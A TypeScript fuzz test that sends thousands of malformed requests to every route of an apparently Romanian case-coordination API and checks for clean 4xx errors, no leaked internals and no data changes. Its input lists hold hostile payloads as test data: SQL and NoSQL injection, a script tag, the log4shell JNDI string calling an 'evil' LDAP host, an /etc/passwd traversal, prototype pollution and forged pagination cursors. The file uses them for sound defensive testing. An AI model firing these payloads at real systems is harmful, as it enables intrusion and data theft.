// Bad input on every route of the route table: thousands of malformed requests, each one a valid example
// (test/support/route-examples.ts) with one thing broken. The route's own zod schemas, run through the same
// reading functions as the handler chain, say whether a mutation is invalid: then the answer must be a 4xx
// problem+json. Whatever it is, never a 5xx, a stack trace or an internal error name, and no data changes.

import { parse as parseForm } from 'node:querystring';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import * as z from 'zod/mini';
import { dispatch, matchRoute, toEvent } from '../../infra/local/lambda-adapter.ts';
import { apiHandlers } from '../../infra/local/server.ts';
import { getConfig } from '../../shared/config.ts';
import { getDocumentClient, tableNames } from '../../shared/data/client.ts';
import type { Role } from '../../shared/domain/enums.ts';
import { assertBodyFits, parseWith, readIfMatch } from '../../shared/http/input.ts';
import type { RouteDefinition } from '../../shared/http/route.ts';
import { routes as table } from '../../shared/http/routes.ts';
import { signTwilioRequest } from '../../shared/http/twilio-signature.ts';
import { checkAgainstContract, tokenFor, type Who } from '../support/api.ts';
import { admin, analyst, coordinatorDJ, prosecutorCraiova } from '../support/factories.ts';
import { useOwnTables } from '../support/messaging-factories.ts';
import { ROUTE_EXAMPLES } from '../support/route-examples.ts';
import { ScanCommand } from '../support/scan-command.ts';

const RUNS_PER_ROUTE = 130;
/** The deployed routes; the local runtime's own (clock, outbox, phone simulator) are not fuzzed. */
const routes = table.filter((r) => r.fn !== 'local');
const PRINCIPALS: Record<Role, Who> = {
  coordinator: coordinatorDJ,
  prosecutor: prosecutorCraiova,
  analyst,
  admin,
};
const LEAKS =
  /\.ts:\d+|\bat [\w.<>]+ \(|ConditionalCheckFailed|ValidationException|SerializationException|TransactionCanceled|ResourceNotFound|TypeError|RangeError|ReferenceError|SyntaxError|ZodError|Exception/;

/** A request as the fuzzer holds it: each part can be broken on its own. */
interface Attempt {
  label: string;
  segments: string[];
  query: [string, string][];
  rawQuery?: string;
  headers: Record<string, string>;
  body: { kind: 'none' } | { kind: 'json'; value: unknown } | { kind: 'form'; value: Record<string, string> };
  rawBody?: string;
  /** Twilio routes: sign the (mutated) request, as a caller with the auth token would. */
  sign: boolean;
}

// ---- the bad values -------------------------------------------------------------------------------------

const deepArray = (depth: number): unknown => {
  let v: unknown = [];
  for (let i = 0; i < depth; i += 1) v = [v];
  return v;
};
const deepObject = (depth: number): unknown => {
  let v: unknown = {};
  for (let i = 0; i < depth; i += 1) v = { a: v };
  return v;
};

const BAD_STRINGS = [
  "' OR 1=1 --",
  '{"$gt":""}',
  '<script>alert(1)</script>',
  'CASE#01J0000000000000000000000',
  '01J00000000000000000000000|CASE#x',
  '#',
  '|',
  '\uD800',
  'a\uDC00b',
  '\u0000',
  'NaN',
  'Infinity',
  '-Infinity',
  '1e999',
  '2026-02-30',
  '2026-02-30T10:00:00Z',
  '2026-13-01',
  '2026-02-28T24:61:00Z',
  '0000-00-00',
  '9999-12-31T23:59:59+14:00',
  '-271821-04-20T00:00:00Z',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the log4shell string, on purpose
  '${jndi:ldap://evil/a}',
  '../../etc/passwd',
  '%00',
  '   ',
  '',
  'x'.repeat(10_000),
  '\u202Eevil',
  'ＤＪ',
  'dj',
  'true',
  '-1',
  '1.5',
  '__proto__',
];

const BAD_VALUES: unknown[] = [
  null,
  true,
  false,
  0,
  -1,
  1.5,
  2 ** 53 + 1,
  -(2 ** 53),
  1e308,
  -1e308,
  5e-324,
  [],
  {},
  [null],
  { $gt: '' },
  { $ne: null },
  Array.from({ length: 5000 }, (_, i) => i),
  deepArray(2000),
  deepObject(1000),
];

const badJsonValue = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...BAD_STRINGS) },
  { weight: 3, arbitrary: fc.constantFrom(...BAD_VALUES) },
  { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 1, arbitrary: fc.double() },
);

const badQueryValue = fc.oneof(
  fc.constantFrom(
    '-1',
    '0',
    '101',
    '1e309',
    '1.5',
    'NaN',
    'Infinity',
    '',
    'garbage',
    'eyJwayI6IkNBU0UjeCJ9', // {"pk":"CASE#x"}: a forged cursor into another partition
    Buffer.from(JSON.stringify({ pk: { S: 'x' }, sk: 1 })).toString('base64url'),
    Buffer.from(JSON.stringify({ pk: 'CASE#x', sk: 'CASE', gsi1pk: { $gt: '' } })).toString('base64url'),
    Buffer.from('[1,2]').toString('base64url'),
    'x'.repeat(3000),
    ...BAD_STRINGS.slice(0, 26),
  ),
  fc.string({ maxLength: 30 }),
);

const b64 = (value: unknown) => Buffer.from(JSON.stringify(value)).toString('base64url');

/**
 * Cursors forged with the right partition (so they pass the partition check) but keys that are missing,
 * of the wrong type or from another index: what a caller who decoded a real cursor would try next.
 */
function forgedCursors(caseId: string | undefined): string[] {
  const partitions: [string, string][] = [
    ['pk', `CASE#${caseId ?? '01ARZ3NDEKTSV4RRFFQ69G5FAV'}`],
    ['pk', `AUDIT#${caseId ?? '01ARZ3NDEKTSV4RRFFQ69G5FAV'}`],
    ['pk', 'SURVEYS'],
    ['gsi1pk', 'COUNTY#DJ'],
    ['gsi2pk', 'UNIT#DIICOT-CRAIOVA'],
    ['gsi1pk', `COORD#${coordinatorDJ.sub}#HEARINGS`],
    ['gsi2pk', 'UNIT#DIICOT-CRAIOVA#HEARINGS'],
    ['gsi2pk', 'UNIT#DIICOT-CRAIOVA#PROTECTION#pending'],
    ['gsi1pk', 'COUNTY#DJ#PROTECTION#pending'],
    ['gsi2pk', 'UNIT#DIICOT-CRAIOVA#MEASURES'],
    ['gsi1pk', 'ACTOR#admin-1'],
  ];
  const shapes = partitions.flatMap(([name, value]) => [
    { [name]: value },
    { [name]: value, sk: { S: 'x' } },
    { [name]: value, pk: 'x', sk: 'y', gsi1sk: 'z', gsi2sk: 'w' },
    { [name]: value, sk: 'CASE', extra: 'x' },
  ]);
  return [
    ...shapes.map(b64),
    b64({ county: 'DJ', inner: 'garbage' }),
    b64({ county: 'DJ', inner: b64({ gsi1pk: 'COUNTY#DJ' }) }),
    b64({ county: 'ZZ' }),
    b64({ day: 'garbage' }),
    b64({ day: '2026-02-30' }),
    b64({ day: '2026-01-01', key: { gsi2pk: 'DAY#2026-01-01' } }),
    b64({ day: '2026-01-01', key: 'x' }),
  ];
}

const BAD_SEGMENTS = [
  'garbage',
  '01ARZ3NDEKTSV4RRFFQ69G5FA',
  '01ARZ3NDEKTSV4RRFFQ69G5FAVX',
  '01arz3ndektsv4rrffq69g5fav',
  '01ARZ3NDEKTSV4RRFFQ69G5FA#',
  'CASE#01ARZ3NDEKTSV4RRFFQ69G5FAV',
  '01ARZ3NDEKTSV4RRFFQ69G5FAV|x',
  "' OR 1=1 --",
  '{"$gt":""}',
  '<script>',
  '..',
  '%',
  '%E0%A4%A',
  '\uD800',
  'x'.repeat(3000),
  '-1',
];

const BAD_RAW_BODIES = [
  '{',
  '{"a":',
  'null',
  '[]',
  '"x"',
  '1e999',
  'NaN',
  '\uD800',
  '{"a":1}garbage',
  '\uFEFF{}',
  '{"__proto__":{"isAdmin":true}}',
  '   ',
  `{"reason":"${'x'.repeat(70_000)}"}`,
  '['.repeat(100_000),
];

const BAD_CONTENT_TYPES = [
  'text/plain',
  'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=x',
  'application/jsonx',
  'application/xml',
  'json',
  '*/*',
];

const BAD_IF_MATCH = ['', 'garbage', '"-1"', '"99999999999999"', '*', 'W/"x"', '"1", "2"', '"1.5"', '"0x1"'];

// ---- mutations ------------------------------------------------------------------------------------------

type JsonPath = (string | number)[];

function pathsOf(value: unknown, prefix: JsonPath = []): JsonPath[] {
  const out: JsonPath[] = [prefix];
  if (Array.isArray(value)) {
    for (const [i, v] of value.entries()) out.push(...pathsOf(v, [...prefix, i]));
  } else if (value && typeof value === 'object')
    for (const [k, v] of Object.entries(value)) out.push(...pathsOf(v, [...prefix, k]));
  return out;
}

function objectPaths(value: unknown): JsonPath[] {
  return pathsOf(value).filter((p) => {
    const v = getAt(value, p);
    return v !== null && typeof v === 'object' && !Array.isArray(v);
  });
}

function getAt(value: unknown, path: JsonPath): unknown {
  return path.reduce<unknown>((v, k) => (v as Record<string | number, unknown> | undefined)?.[k], value);
}

/** A copy of `value` with `path` set to `next` (or removed when `next` is `remove`). */
function setAt(value: unknown, path: JsonPath, next: unknown | typeof remove): unknown {
  if (path.length === 0) return next === remove ? undefined : next;
  const copy = structuredClone(value) as Record<string | number, unknown>;
  const parent = getAt(copy, path.slice(0, -1)) as Record<string | number, unknown>;
  const key = path[path.length - 1] as string | number;
  if (next === remove) {
    if (Array.isArray(parent)) parent.splice(key as number, 1);
    else delete parent[key];
  } else {
    Object.defineProperty(parent, key, { value: next, enumerable: true, writable: true, configurable: true });
  }
  return copy;
}
const remove = Symbol('remove');

function shapeKeys(schema: z.ZodMiniType | undefined): string[] {
  return schema instanceof z.ZodMiniObject ? Object.keys(schema.shape) : [];
}

function mutations(route: RouteDefinition, base: Attempt): fc.Arbitrary<Attempt> {
  const choices: fc.Arbitrary<Attempt>[] = [];
  const paramPositions = route.path
    .split('/')
    .map((s, i) => (s.startsWith('{') ? i : -1))
    .filter((i) => i >= 0);
  if (paramPositions.length > 0) {
    choices.push(
      fc
        .tuple(
          fc.constantFrom(...paramPositions),
          fc.oneof(fc.constantFrom(...BAD_SEGMENTS), fc.string({ minLength: 1, maxLength: 40 })),
        )
        .map(([i, bad]) => {
          const segments = [...base.segments];
          segments[i] = /^%/.test(bad) ? bad : encode(bad);
          return { ...base, label: `path ${route.path.split('/')[i]}=${short(bad)}`, segments };
        }),
    );
  }
  const queryKeys = [...new Set([...shapeKeys(route.query), 'limit', 'cursor', 'from', 'to', 'x'])];
  const caseId = base.segments[base.segments.indexOf('cases') + 1];
  choices.push(
    fc.constantFrom(...forgedCursors(caseId)).map((cursor) => ({
      ...base,
      label: `forged cursor ${Buffer.from(cursor, 'base64url').toString().slice(0, 60)}`,
      query: [...base.query.filter(([k]) => k !== 'cursor'), ['cursor', cursor] as [string, string]],
    })),
    fc.tuple(fc.constantFrom(...queryKeys), badQueryValue, fc.boolean()).map(([key, value, duplicate]) => ({
      ...base,
      label: `query ${key}=${short(value)}${duplicate ? ' (twice)' : ''}`,
      query: duplicate
        ? [...base.query, [key, value] as [string, string], [key, '1'] as [string, string]]
        : [...base.query.filter(([k]) => k !== key), [key, value] as [string, string]],
    })),
    fc
      .constantFrom('limit=%', 'cursor=%E0%A4%A', 'a[b]=1&a[c]=2', '&&&=', `limit=${'9'.repeat(400)}`)
      .map((rawQuery) => ({ ...base, label: `raw query ${rawQuery.slice(0, 30)}`, rawQuery })),
  );
  if (base.body.kind === 'json') {
    const json = base.body.value;
    const extraKeys = [
      '$gt',
      '__proto__',
      'constructor',
      'isAdmin',
      'pk',
      'sk',
      'version',
      'county',
      'x'.repeat(300),
    ];
    choices.push(
      fc.tuple(fc.constantFrom(...pathsOf(json)), badJsonValue).map(([path, bad]) => ({
        ...base,
        label: `body ${path.join('.') || '(root)'}=${short(bad)}`,
        body: { kind: 'json' as const, value: setAt(json, path, bad) },
      })),
      fc.constantFrom(...pathsOf(json).filter((p) => p.length > 0)).map((path) => ({
        ...base,
        label: `body without ${path.join('.')}`,
        body: { kind: 'json' as const, value: setAt(json, path, remove) },
      })),
      fc
        .tuple(
          fc.constantFrom(...objectPaths(json)),
          fc.constantFrom(...extraKeys, ...shapeKeys(route.body)),
          badJsonValue,
        )
        .map(([path, key, bad]) => ({
          ...base,
          label: `body extra ${[...path, key].join('.').slice(0, 40)}=${short(bad)}`,
          body: { kind: 'json' as const, value: setAt(json, [...path, key], bad) },
        })),
      fc
        .constantFrom(...BAD_RAW_BODIES)
        .map((raw) => ({ ...base, label: `raw body ${short(raw)}`, rawBody: raw })),
      fc.constantFrom(...BAD_CONTENT_TYPES).map((type) => ({
        ...base,
        label: `content-type ${type}`,
        headers: { ...base.headers, 'content-type': type },
        rawBody: type.includes('form') ? 'reason=Proceedings+ended&county=DJ' : undefined,
      })),
    );
  }
  if (base.body.kind === 'form') {
    const form = base.body.value;
    const keys = [...new Set([...Object.keys(form), ...shapeKeys(route.body)])];
    const badForm = fc.oneof(fc.constantFrom(...BAD_STRINGS), fc.string({ unit: 'binary', maxLength: 40 }));
    choices.push(
      fc.tuple(fc.constantFrom(...keys), badForm).map(([key, bad]) => ({
        ...base,
        label: `form ${key}=${short(bad)}`,
        body: { kind: 'form' as const, value: { ...form, [key]: bad } },
      })),
      fc.constantFrom(...Object.keys(form)).map((key) => {
        const { [key]: _dropped, ...rest } = form;
        return { ...base, label: `form without ${key}`, body: { kind: 'form' as const, value: rest } };
      }),
      fc.constant({
        ...base,
        label: 'JSON to a form route',
        headers: { ...base.headers, 'content-type': 'application/json' },
        rawBody: JSON.stringify(form),
      }),
      fc.constant({
        ...base,
        label: 'form body over the limit',
        body: { kind: 'form' as const, value: { ...form, Body: 'x'.repeat(70_000) } },
      }),
    );
  }
  if (route.ifMatch) {
    choices.push(
      fc.constantFrom(...BAD_IF_MATCH, undefined).map((value) => {
        const headers = { ...base.headers };
        if (value === undefined) delete headers['if-match'];
        else headers['if-match'] = value;
        return { ...base, label: `if-match ${value ?? '(none)'}`, headers };
      }),
    );
  }
  return fc.oneof(...choices);
}

/** Percent-encoding; a lone surrogate has no UTF-8 form, so it goes as the bytes a broken client would send. */
function encode(value: string): string {
  try {
    return encodeURIComponent(value);
  } catch {
    return [...value].map((c) => (/[\uD800-\uDFFF]/.test(c) ? '%ED%A0%80' : encodeURIComponent(c))).join('');
  }
}

/** The known-nasty cases, every one on every route it applies to (the random mutations come on top). */
function targeted(route: RouteDefinition, base: Attempt): Attempt[] {
  const out: Attempt[] = [];
  const caseId = base.segments[base.segments.indexOf('cases') + 1];
  if (shapeKeys(route.query).includes('cursor')) {
    for (const cursor of forgedCursors(caseId))
      out.push({
        ...base,
        label: `forged cursor ${Buffer.from(cursor, 'base64url').toString().slice(0, 60)}`,
        query: [...base.query.filter(([k]) => k !== 'cursor'), ['cursor', cursor]],
      });
  }
  route.path.split('/').forEach((segment, i) => {
    if (!segment.startsWith('{')) return;
    for (const bad of BAD_SEGMENTS) {
      const segments = [...base.segments];
      segments[i] = /^%/.test(bad) ? bad : encode(bad);
      out.push({ ...base, label: `path ${segment}=${short(bad)}`, segments });
    }
  });
  for (const [key, value] of [
    ['limit', '-1'],
    ['limit', '1e309'],
    ['limit', 'NaN'],
    ['cursor', 'garbage'],
    ['cursor', ''],
  ] as [string, string][]) {
    if (shapeKeys(route.query).includes(key))
      out.push({ ...base, label: `query ${key}=${value}`, query: [...base.query, [key, value]] });
  }
  if (base.body.kind === 'json') {
    for (const raw of BAD_RAW_BODIES) out.push({ ...base, label: `raw body ${short(raw)}`, rawBody: raw });
    for (const type of BAD_CONTENT_TYPES)
      out.push({
        ...base,
        label: `content-type ${type}`,
        headers: { ...base.headers, 'content-type': type },
      });
  }
  if (base.body.kind === 'form') {
    out.push({
      ...base,
      label: 'JSON to a form route',
      headers: { ...base.headers, 'content-type': 'application/json' },
      rawBody: JSON.stringify(base.body.value),
    });
  }
  if (route.ifMatch)
    for (const value of BAD_IF_MATCH)
      out.push({ ...base, label: `if-match ${value}`, headers: { ...base.headers, 'if-match': value } });
  return out;
}

function short(value: unknown): string {
  const text = typeof value === 'string' ? value : (JSON.stringify(value) ?? String(value));
  return JSON.stringify(text.length > 24 ? `${text.slice(0, 24)}...(${text.length})` : text);
}

// ---- building, classifying and sending ------------------------------------------------------------------

async function baseAttempt(route: RouteDefinition): Promise<Attempt> {
  const make = ROUTE_EXAMPLES[route.id];
  if (!make) throw new Error(`no example (generator) for route ${route.id}`);
  const example = await make();
  const [path = '/', query = ''] = example.path.split('?');
  const headers: Record<string, string> = { ...(example.headers ?? {}) };
  delete headers['x-twilio-signature'];
  if (example.ifMatch !== undefined) headers['if-match'] = `"${example.ifMatch}"`;
  let body: Attempt['body'] = { kind: 'none' };
  if (example.body !== undefined) {
    body = { kind: 'json', value: example.body };
    headers['content-type'] = 'application/json';
  } else if (example.rawBody !== undefined) {
    body = { kind: 'form', value: Object.fromEntries(new URLSearchParams(example.rawBody)) };
  }
  return {
    label: 'example',
    segments: path.split('/'),
    query: [...new URLSearchParams(query)],
    headers,
    body,
    sign: route.access.kind === 'twilio',
  };
}

interface Built {
  method: string;
  path: string;
  query: string;
  headers: Record<string, string>;
  body?: string;
}

async function build(route: RouteDefinition, attempt: Attempt): Promise<Built> {
  const path = attempt.segments.join('/');
  const query = attempt.rawQuery ?? attempt.query.map(([k, v]) => `${encode(k)}=${encode(v)}`).join('&');
  let body = attempt.rawBody;
  if (body === undefined && attempt.body.kind === 'json') body = JSON.stringify(attempt.body.value);
  if (body === undefined && attempt.body.kind === 'form')
    body = new URLSearchParams(attempt.body.value).toString();
  const headers = { ...attempt.headers };
  if (attempt.sign) {
    const url = `${getConfig().PUBLIC_BASE_URL}${path}${query ? `?${query}` : ''}`;
    headers['x-twilio-signature'] = await signTwilioRequest(
      url,
      Object.fromEntries(new URLSearchParams(body ?? '')),
    );
  } else if (route.access.kind === 'roles') {
    const role = route.access.roles[0] as Role;
    headers['authorization'] = `Bearer ${await tokenFor(PRINCIPALS[role])}`;
  }
  return { method: route.method, path, query, headers, body };
}

/** The body as the chain reads it: the size limit, then middy's JSON or form parser (same media types). */
function readBody(route: RouteDefinition, headers: Record<string, string>, raw: string): unknown {
  if (!route.body) return undefined;
  assertBodyFits(raw, getConfig().MAX_BODY_BYTES);
  const type = headers['content-type'] ?? '';
  if (route.bodyType === 'form') {
    if (!/^application\/x-www-form-urlencoded(;.*)?$/.test(type)) throw new Error('415');
    return Object.assign({}, parseForm(raw));
  }
  if (!/^application\/(.+\+)?json($|;.+)/.test(type)) throw new Error('415');
  return JSON.parse(raw);
}

/** Does the route's own reading of the request (the chain's parsers and input.ts with its zod schemas) refuse it? */
function refusedByTheRoute(route: RouteDefinition, built: Built): boolean {
  const match = matchRoute(built.method, built.path);
  if (match?.route !== route) return true;
  const event = toEvent(built, match.route, match.params);
  const headers = event.headers as Record<string, string>;
  if (
    route.access.kind === 'twilio' &&
    !(headers['content-type'] ?? '').startsWith('application/x-www-form-urlencoded')
  )
    return true;
  try {
    if (route.params) parseWith(route.params, event.pathParameters ?? {});
    if (route.query) parseWith(route.query, event.queryStringParameters ?? {});
    const body = readBody(route, headers, built.body ?? '');
    if (route.body) parseWith(route.body, body);
    if (route.ifMatch) readIfMatch(headers);
    return false;
  } catch {
    return true;
  }
}

const tally = {
  requests: 0,
  refused: 0,
  accepted: 0,
  discarded: 0,
  serverErrors: 0,
  byStatus: new Map<number, number>(),
};

async function send(route: RouteDefinition, attempt: Attempt): Promise<boolean> {
  const built = await build(route, attempt);
  const invalid = refusedByTheRoute(route, built);
  // A mutation that stayed valid would really change data on a write route: those are not sent.
  if (!invalid && route.method !== 'GET') {
    tally.discarded += 1;
    return false;
  }
  const res = await dispatch(built, apiHandlers);
  const status = res.statusCode ?? 200;
  const text = res.body ?? '';
  const headers = (res.headers ?? {}) as Record<string, string>;
  checkAgainstContract({ method: built.method, path: built.path, status, headers, text });
  tally.requests += 1;
  tally.byStatus.set(status, (tally.byStatus.get(status) ?? 0) + 1);
  if (status >= 500) tally.serverErrors += 1;
  const where = `${route.method} ${route.path} with ${attempt.label}: ${status} ${text.slice(0, 300)}`;
  expect(status, where).toBeLessThan(500);
  // The OpenAPI document describes the schemas (their regexes included): it is the one body not checked.
  if (route.id !== 'openapi' || status >= 400) expect(text, where).not.toMatch(LEAKS);
  if (invalid) {
    tally.refused += 1;
    expect(status, where).toBeGreaterThanOrEqual(400);
    expect(headers['content-type'], where).toBe('application/problem+json');
    expect(JSON.parse(text).status, where).toBe(status);
  } else {
    tally.accepted += 1;
  }
  return true;
}

async function scanAll(table: string): Promise<string[]> {
  const items: string[] = [];
  let start: Record<string, unknown> | undefined;
  do {
    const page = await getDocumentClient().send(
      new ScanCommand({ TableName: table, ExclusiveStartKey: start, ConsistentRead: true }),
    );
    items.push(...(page.Items ?? []).map((i) => JSON.stringify(i)));
    start = page.LastEvaluatedKey;
  } while (start);
  return items.sort();
}

const snapshot = async () => ({
  coordination: await scanAll(tableNames().coordination),
  insights: await scanAll(tableNames().insights),
});

const bases = new Map<string, Attempt>();
let before: Awaited<ReturnType<typeof snapshot>>;
const started = Date.now();

beforeAll(async () => {
  await useOwnTables('bad-input');
  for (const route of routes) if (ROUTE_EXAMPLES[route.id]) bases.set(route.id, await baseAttempt(route));
  before = await snapshot();
});

afterAll(() => {
  const statuses = [...tally.byStatus]
    .sort(([a], [b]) => a - b)
    .map(([s, n]) => `${s}:${n}`)
    .join(' ');
  process.stdout.write(
    `bad-input: ${tally.requests} requests over ${routes.length} routes in ${((Date.now() - started) / 1000).toFixed(1)} s, ` +
      `${tally.refused} invalid by construction (all 4xx), ${tally.accepted} still valid (GET), ` +
      `${tally.discarded} valid writes not sent, ${tally.serverErrors} 5xx; statuses ${statuses}\n`,
  );
});

describe('malformed requests on every route', () => {
  it('has a generator (a valid example to mutate) for every route', () => {
    const missing = routes.filter((r) => !ROUTE_EXAMPLES[r.id]).map((r) => r.id);
    expect(missing).toEqual([]);
  });

  for (const route of routes) {
    it(`answers ${route.method} ${route.path} with a 4xx problem, never a 5xx, whatever is broken`, async () => {
      const base = bases.get(route.id);
      if (!base) throw new Error(`no generator for ${route.id}`);
      const sentBefore = tally.requests;
      for (const attempt of targeted(route, base)) await send(route, attempt);
      await fc.assert(
        fc.asyncProperty(mutations(route, base), async (attempt) => {
          fc.pre(await send(route, attempt));
        }),
        { numRuns: RUNS_PER_ROUTE, seed: 20_260_208, endOnFailure: true, maxSkipsPerRun: 100 },
      );
      expect(tally.requests - sentBefore).toBeGreaterThan(RUNS_PER_ROUTE / 2);
    });
  }

  it('changed no item of the CoordinationTable or the InsightsTable', async () => {
    expect(tally.requests).toBeGreaterThan(5000);
    const after = await snapshot();
    expect(after.coordination).toEqual(before.coordination);
    expect(after.insights).toEqual(before.insights);
  });
});
